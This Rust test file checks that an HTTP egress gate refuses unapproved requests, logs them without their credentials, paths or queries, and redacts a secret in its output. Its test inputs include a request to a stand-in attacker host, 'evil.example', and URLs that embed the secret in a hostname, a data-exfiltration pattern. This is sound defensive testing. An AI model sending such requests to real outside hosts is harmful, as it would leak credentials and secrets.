//! The reports about refused requests, and the values that they omit.

use std::sync::Arc;

use portcullis::SessionOptions;

use super::server::{Answer, Server};
use super::{KEY, ask, hooks, said, session};
use crate::told::Told;

#[tokio::test]
async fn a_refused_request_is_logged_and_counted_and_its_content_is_not() {
    let told = Told::default();
    let _heard = tracing::subscriber::set_default(told.clone());
    let session = session(&["POST http://127.0.0.1:9/".into()], "");
    ask(
        &session,
        "GET http://user:word@evil.example:81/path?query=1",
    )
    .await;
    ask(&session, "GET http://127.0.0.1:9/path?query=1").await;
    let all = told.all();
    let lines: Vec<&str> = all.lines().collect();
    for (target, parts) in [
        (
            "portcullis::http",
            vec![
                "hook=caller",
                "method=\"GET\"",
                "server=\"http://evil.example:81\"",
            ],
        ),
        (
            "portcullis::http",
            vec![
                "server=\"http://127.0.0.1:9\"",
                "the method was not granted",
            ],
        ),
        (
            "portcullis::metrics",
            vec!["portcullis_http_refused=1", "hook=caller"],
        ),
    ] {
        let found = lines
            .iter()
            .any(|line| line.starts_with(target) && parts.iter().all(|part| line.contains(part)));
        assert!(found, "{target} {parts:?}: {all}");
    }
    for never in ["word", "path", "query"] {
        assert!(!all.contains(never), "{never}: {all}");
    }
}

#[tokio::test]
async fn a_secret_that_is_sent_is_said_nowhere_else() {
    let server = Server::new(Answer::Text("thanks")).await;
    let told = Told::default();
    let _heard = tracing::subscriber::set_default(told.clone());
    let session = hooks(&[server.grant("GET")], "wall-ms = 20_000").session(SessionOptions {
        sink: Arc::new(told.clone()),
        ..SessionOptions::new("session-1")
    });
    let (answer, verdict) = said(&format!("key {}", server.url()), &session).await;
    told.add(format!("{verdict:?}"));
    assert_eq!(answer, "200 thanks");
    assert!(server.heads()[0].contains(&format!("authorization: {KEY}")));
    // The secret is in every part of the request, which is refused.
    for url in [format!("http://{KEY}.example"), "http://127.0.0.1:9".into()] {
        let (_, verdict) = said(&format!("key {url}"), &session).await;
        told.add(format!("{:?}", verdict.runs));
    }
    let all = told.all();
    assert!(all.contains("[secret KEY]"), "{all}");
    assert!(!all.contains(KEY), "{all}");
}
